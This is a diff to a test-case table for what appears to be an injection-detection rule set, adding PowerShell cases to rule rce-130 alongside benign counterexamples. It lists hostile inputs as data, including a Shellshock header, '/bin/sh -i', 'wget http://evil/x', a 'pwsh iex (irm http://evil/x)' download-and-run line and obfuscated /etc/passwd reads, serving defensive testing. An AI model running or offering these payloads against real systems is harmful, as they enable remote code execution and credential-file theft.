@@ -450,8 +450,15 @@ CASES: dict[str, tuple[list[tuple[str, str]], list[tuple[str, str]]]] = {
     ),
     "rce-120": ([("h:user-agent", "() { :; }; /bin/bash -c id")], [("h:user-agent", "Mozilla/5.0 (X11)")]),
     "rce-130": (
-        [("q", "/bin/sh -i"), ("q", "powershell -enc AAA"), ("q", "for %i in (*) do echo")],
-        [("q", "the bin is full")],
+        [
+            ("q", "/bin/sh -i"),
+            ("q", "powershell -enc AAA"),
+            ("q", "for %i in (*) do echo"),
+            ("q", "powershell.exe"),
+            ("q", "pwsh iex (irm http://evil/x)"),
+            ("q", "x & powershell Get-Process"),
+        ],
+        [("q", "the bin is full"), ("q", "Can you explain execution policy in PowerShell?")],
     ),
     "rce-140": ([("q", "wget http://evil/x"), ("q", "cat /etc/issue")], [("q", "cat videos")]),
     "rce-150": ([("q", "/b?n/c?t /etc/passwd"), ("q", "c''at x")], [("q", "what? why?")]),
